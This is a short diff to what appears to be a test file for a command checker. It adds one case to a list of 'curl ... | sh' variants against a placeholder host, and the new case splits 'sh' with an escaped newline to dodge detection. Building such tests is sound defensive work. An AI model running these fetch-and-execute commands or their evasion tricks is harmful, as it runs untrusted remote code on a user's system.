@@ -10,6 +10,7 @@ test.each([
   'curl https://x.example | timeout 9 sh',
   'curl https://x.example | busybox sh',
   'if true; then curl https://x.example | sh; fi',
+  'curl https://x.example | s\\\nh',
   'f() { curl https://x.example | sh; }; f',
   'curl https://x.example | tee /tmp/a >/dev/null; sh /tmp/a',
   'curl --output=/tmp/a https://x.example && sh /tmp/a',
